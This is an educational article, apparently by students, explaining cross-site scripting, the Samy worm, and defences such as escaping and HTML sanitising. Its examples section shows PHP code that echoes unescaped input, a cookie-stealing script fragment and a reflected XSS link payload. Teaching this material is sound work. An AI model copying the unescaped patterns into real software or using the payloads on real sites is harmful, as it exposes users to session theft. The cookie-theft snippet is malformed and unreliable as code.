Cross-Site Scripting


Cross-site scripting is when an attacker inserts code into a legitimate website and is considered one of the more dangerous website vulnerabilities. Web sites are vulnerable when they don't use validation or encoding on user generated data. This is dangerous for the site users, who are at risk for their data being stolen. There are several different ways for web applications to help prevent Cross-Site Scripting, such as escaping characters, Signature based filtering, and avoiding/validating HTML given by users. Users can also take precautions, such as using anti-viruses, checking that the sites they are using are safe, and being careful of clicking on unknown links.

What is Cross-Site Scripting and Why is it Dangerous?XSS, or Cross-Site Scripting is inserting malicious code into an actual website to gather information from the users. Most of the danger lies on the users of the sites, as the code targets their information and use rather than the website itself. [XSS]

  • Some examples of what dangerous XSS could do include:

    1. Access session cookies, which can be used to impersonate the user
    2. Keylogging, which tracks the users keystrokes to catch usernames and passwords,
    3. Phishing, or sending out fake and/or malicious emails, usually to steal user data such as usernames and passwords.
    4. Installing malicious software or viruses on the user's computer
    5. and Identity Theft [xss]

These attacks can be damaging if the attacker manages to steal a user's username and/or password. They can be used to get into user accounts and either use their accounts as dummy accounts to send out other attacks, steal the users private, saved information, or could be used to purchase items in the users's name if their purchasing information is included in the account, such as an Amazon Prime or credit card account.

  • There are two different types of XSS attacks, stored and reflective

    • Stored XSSis "stored", or imbedded, on the website itself and steals data every time the website is visited. [xss-prevention] It is also known as "persistent XSS", and can be the more dangerous of the two types. [xss-attacks]
    • Reflective XSS is stored in a link embedded in the website that the user has to click on to activate. [xss-attacks]

XSS attacks have been around since the start of the web, first becoming a problem when JavaScript language was introduced to the web application world. [Grossman]

  • One of the earliest XSS worms was known as "Samy", which was a small code that a 19 put in his MySpaceprofile to add anyone who viewed his profile as a friend. But it also added the code invisible to everyone who viewed hispage, and it quickly multiplied exponentially, adding over one million friend requests in just over 24 hours before MySpace took the website down. [Grossman] [Franceschi]

What Can Be Done to Prevent XSS through Web Security

  • Web Application Firewall (WAF) - the most common protection [xss-attacks]

    • Many web browsers now come with built-in defenses against some XSS attacks. This mostly works on reflective XSS, as the browsers can detect when common attack senarios are run, and can neutralize them even if the user clicks on the link itself. [Shema]
  • Signature based Filtering - "identifies and blocks malicious requests" [xss-attacks]

  • Use escape characters - escape anycharacters that could change the websites code [xss-prevention]

    • PHP Applications can use htmlentities() , a built in function for escaping characters
    • Also escape any HTML, attribute, JavaScript, JSON (with HTML), CSS, and URL before entering any un-trusted or un-validated data [xss_cheat_sheet]
    • One way to do this is to use regular expressions to validate data that is entered. Regular expressions often include escape characters that would be allowed, such as \. for "." Regular expressions can also be used to find special characters and escape them with a special sequences such as & for &. [Watts]
    • Many browers use a blacklist or a whitelist with regular expressions. The blacklist looks for matches to disallowed data, while the whitelist matches valid data. [Shema]
  • Escape data output, not input - when displaying to user [xss-prevention]

    • "Security researcher Jouko Pynnönen of Klikki Oy realized MySQL column truncation can defeat before-insert XSS prevention strategies" [xss-prevention]
  • Avoid using straight HTML - use a markup language, such as Markdown or ReStructuredText

  • If HTML is needed, such as on blogging site where users may expect the ability to use HTML on their personal blogs and/or comments, use a library such as HTML Purifier to help validate the HTML [xss-prevention]

What You Can Do To Spot/Prevent XSS

  • Be careful of linksthat you click on in websites and through emails. Phishing attacks are usually heard coming through emails, and happen when the user clicks on a link that leads them to a malicious website.

    • For example, if you get an email saying that your password/username has expired or needs to be changed, the safest option is to go to a new tab and go to the website yourself to see if the password/username really needs changed, and if it does, you can change it through the website itself.
    • The same process should be used if you get an email saying that your shipping or billing information needs to be updated for an online order.
  • Make sure that websites that you are visiting are safe, or take precautions before or while you are on thewebsite.

    • Some anti-viruses, such as Norton and Kaspersky, come with web add-ons that will check out websites when you google them. For Kaspersky, this can show up as a green tag with a K inside next to websites that it has verified are safe to visit, a grey version next tolinks that it cannot verify, and a red version for links that are deemed dangerous.
  • Have a good Anti-Virus/ Web Security, such as McAfee AntiVirus Plus, Bitdefender AnitVirus Plus, or Kaspersky Anti-Virus. As shown above, these can protect you from malicious links while googling, but they can also protect the user from phishing and keylogging attempts.

Example of Cross-Site Scripting:Stored XSS [xss-attacks]

  • Stored XSS Example: An attacker figures out that the comment section of a website can store HTML tags. They leave a comment that says:

    "Great price for a great item! Read my review here <script src=""> </script>" [xss-attacks]

    This is stored in the website, and every time someone visits the page, they can have their session cookies stolen.

    • However, this is harder for hackers to attempt, because they must find a highly trafficked site that also has a security hole that they can infiltrate. [xss-prevention]
  • Another Stored XSS example would be:

    • Vulnerability: <div id="profile"><?php echo $user['profile']; ?></div> This only works if the profile is pulled from a database with no escapeing (discussed above) to protect it. The following script will show how this vulnerability could be used to steal the user's cookies. This would allow the hacker to impersonate the user who looked at the website. [xss-attacks]

    • Attack:<script>"" + document.cookie, "_blank");


  • Reflective XSS: Similar to the first stored example above, except that the user would have to click on the link to activate the code.

  • Another reflectve XSS example would be:

    • Vulnerability: <form action="<?php echo $_SERVER['PHP_SELF']; ?>" method="post"> All the attacker needs to do in this case is get the user to click on the link shown below, and an alert saying "XSS"(code) will pop up. [xss-attacks]

    • Attack:

      Link: /form.php?%22%20onload%3D%22alert(%27XSS%27)%3BCode: <form action="/form.php?" onload="alert('XSS');" method="post">

In real life, this would almost certainly do more harm than a simple pop-up. Some examples would be popping up a new form for you to fill out, that would sent the data to the hackers, or showing an error with a message saying you need to download their specific "software" (most likely malware) to get rid of the error.


[xss-attacks](1, 2, 3, 4, 5, 6, 7, 8) "Cross Site Scripting (XSS) Attacks." Imperva, n.d. Web. 18 Feb. 2017.
[xss-prevention](1, 2, 3, 4, 5, 6) "Everything You Need to Know About Preventing Cross-Site Scripting Vulnerabilities in PHP - Paragon Initiative Enterprises Blog." RSS. Paragon Initiative Enterprises , 16 June 2015. Web. 19 Feb. 2017.
[Franceschi]Franceschi-Bicchierai,Lorenzo. "The MySpace Wormthat Changed the Internet Forever.." Motherboard. Motherboard, 04 Oct. 2015. Web. 23 Feb. 2017.
[Grossman](1, 2) Grossman, Jeremiah. XSS Attacks: Cross-site Scripting Exploits and Defense. N.p.: Syngress, 2007. Print.
[Shema](1, 2) Shema, Mike. “HTML Injection & Cross-Site Scripting (XSS).” Hacking Web Apps: Detecting and Preventing Web Application Security Problems , Syngress, 2012, pp. 23–78.
[Watts]Watt, Andrew. Beginning Regular Expressions. Indianapolis , IN, Wiley, 2005.Print.
[xss](1, 2) "What is Cross-Site Scripting and How Can You Fix it?." Acunetix. Acunetix. n.d. Web. 16 Feb. 2017.
[xss_cheat_sheet]"XSS (Cross Site Scripting) Prevention Cheat Sheet." XSS (Cross Site Scripting) Prevention Cheat Sheet - OWASP. OWASP, n.d. Web. 19 Feb. 2017.

Written by Kyann, Edited by Rasim and Cole.